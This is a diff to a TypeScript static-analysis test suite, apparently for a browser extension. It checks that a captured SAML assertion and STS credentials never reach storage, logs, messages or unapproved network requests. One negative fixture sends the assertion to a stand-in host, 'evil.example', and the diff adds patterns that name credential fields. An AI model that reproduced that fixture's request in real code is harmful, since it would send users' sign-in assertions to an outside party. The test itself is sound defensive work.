@@ -29,6 +29,15 @@ interface Violation {
 const POST_FORM = 'src/pages/picker/post-form.ts';
 const SIGNIN_POST = 'src/core/signin-post.ts';
 
+/**
+ * The one file allowed to hand the assertion to the network besides post-form.ts: the worker's STS
+ * sign-in, only as `requestAws(post.url, post, …)` with a `post` that buildAssumeRoleWithSaml (the
+ * form POST to an STS endpoint that checkStsTarget allowed) or buildSigninTokenPost made.
+ */
+const STS_SIGNIN = 'src/background/sts-signin.ts';
+const STS_REQUEST = /^\s*post\.url\s*,\s*post\s*,/;
+const STS_POST_ORIGIN = /\bpost\s*:\s*ReturnType<typeof\s+buildAssumeRoleWithSaml>|\bpost\s*=\s*buildSigninTokenPost\s*\(/;
+
 /** A file that handles the assertion: mentions the field, our capture of it, or the POST that carries it. */
 const HANDLES_ASSERTION = /samlResponse|SAMLResponse|[cC]apture|SigninPost\b/;
 /** An expression that may carry the assertion (checked on code with strings blanked out). */
@@ -207,6 +216,13 @@ function resolveModule(importer: string, specifier: string): string {
 
 const withoutExtension = (path: string) => path.replace(/\.(?:tsx?|html)$/, '');
 
+/** `requestAws(post.url, post, …)` in the STS sign-in, with `post` from one of the two builders, in the enclosing function. */
+function isAllowedStsRequest(file: SourceFile, code: string, name: string, args: string, index: number): boolean {
+  if (file.path !== STS_SIGNIN || name !== 'requestAws' || !STS_REQUEST.test(args)) return false;
+  const enclosing = code.slice(code.lastIndexOf('function ', index), index);
+  return STS_POST_ORIGIN.test(enclosing) && /\bcheck(?:Sts|Federation)Target\s*\(/.test(code);
+}
+
 function findViolations(files: readonly SourceFile[]): Violation[] {
   const violations: Violation[] = [];
   const add = (rule: RuleId, file: SourceFile, index: number, why: string) =>
@@ -258,6 +274,7 @@ function findViolations(files: readonly SourceFile[]): Violation[] {
       for (const m of code.matchAll(new RegExp(`\\b${name.replace(/\$/g, '\\$')}\\s*\\(`, 'g'))) {
         const args = argumentsAt(code, m.index + m[0].length - 1);
         if (!CARRIES_ASSERTION.test(args)) continue;
+        if (network && !storage && isAllowedStsRequest(file, code, name, args, m.index)) continue;
         if (storage) add('persistent-storage', file, m.index, `passes what may be the assertion to ${name}() of ${from}, which uses persistent storage`);
         if (network) add('network', file, m.index, `passes what may be the assertion to ${name}() of ${from}, which makes network requests`);
       }
@@ -354,6 +371,34 @@ describe('the assertion never leaks (static analysis of src/)', () => {
   });
 });
 
+/** Where STS credentials may appear at all: the readers and builders in core, and the worker's sign-in. */
+const CREDENTIAL_FILES = ['src/core/sts.ts', 'src/core/federation.ts', STS_SIGNIN];
+const CREDENTIAL_WORDS = /\b(?:secretAccessKey|sessionToken|SecretAccessKey|SessionToken|StsCredentials)\b/g;
+
+function credentialMentions(files: readonly SourceFile[]): string[] {
+  return files
+    .filter((f) => /\.tsx?$/.test(f.path) && !CREDENTIAL_FILES.includes(f.path))
+    .flatMap((f) => [...codeOnly(f.text, true).matchAll(CREDENTIAL_WORDS)].map((m) => `${f.path}:${lineOf(f.text, m.index)}`));
+}
+
+describe('STS credentials stay in the worker (static analysis of src/)', () => {
+  it('are named only in the STS reader, the federation builder and the worker that uses them', () => {
+    expect(credentialMentions(SOURCES)).toEqual([]);
+    expect(credentialMentions([{ path: 'src/pages/picker/x.ts', text: 'const a = reply.sessionToken;' }])).toEqual(['src/pages/picker/x.ts:1']);
+  });
+
+  it('the worker stores, logs and messages none of them', () => {
+    const worker = SOURCES.find((f) => f.path === STS_SIGNIN);
+    expect(worker).toBeDefined();
+    const code = codeOnly(worker!.text);
+    expect(code).not.toMatch(/\bstorage\s*\.|\bconsole\s*\.|sendMessage|postMessage/);
+    // The credentials never reach a diagnosis or a reply: only STS errors and hosts do.
+    for (const m of code.matchAll(/\b(?:saveDiagnosis|steps\.push)\s*\(/g)) {
+      expect(argumentsAt(code, m.index + m[0].length - 1)).not.toMatch(/credentials|secret|token/i);
+    }
+  });
+});
+
 describe('each rule fails on a bad example', () => {
   const check = (files: SourceFile[], rule: RuleId) => findViolations(files).filter((v) => v.rule === rule);
   const goodPostForm: SourceFile = {
@@ -400,6 +445,22 @@ describe('each rule fails on a bad example', () => {
       'network',
     );
     expect(found.map((v) => `${v.path}:${v.line}`)).toEqual(['src/pages/picker/a.ts:2', 'src/pages/picker/b.ts:1', 'src/pages/picker/c.ts:2']);
+  });
+
+  it('network: the STS request only from sts-signin.ts, only with a post from the builders', () => {
+    const aws: SourceFile = { path: 'src/platform/aws-request.ts', text: 'export const requestAws = (url: string, init: object) => fetch(url, init);' };
+    const header = "import { requestAws } from '../platform/aws-request';\nimport { checkStsTarget } from '../core/sts-target';\n";
+    const good = `${header}async function callSts(post: ReturnType<typeof buildAssumeRoleWithSaml>) {\n  checkStsTarget(post.url, 'aws', 'x');\n  return requestAws(post.url, post, 1);\n}`;
+    expect(check([aws, { path: STS_SIGNIN, text: good }], 'network')).toEqual([]);
+    const found = check(
+      [
+        aws,
+        { path: STS_SIGNIN, text: `${header}async function callSts(capture: { samlResponse: string }) {\n  const post = { url: 'https://evil.example', body: capture.samlResponse };\n  return requestAws(post.url, post, 1);\n}` },
+        { path: 'src/background/other.ts', text: `${header}async function callSts(post: ReturnType<typeof buildAssumeRoleWithSaml>) {\n  return requestAws(post.url, post, 1);\n}` },
+      ],
+      'network',
+    );
+    expect(found.map((v) => `${v.path}:${v.line}`).sort()).toEqual(['src/background/other.ts:4', 'src/background/sts-signin.ts:5']);
   });
 
   it('form-post: a form elsewhere, a hand-made SigninPost, a loosened post-form.ts', () => {
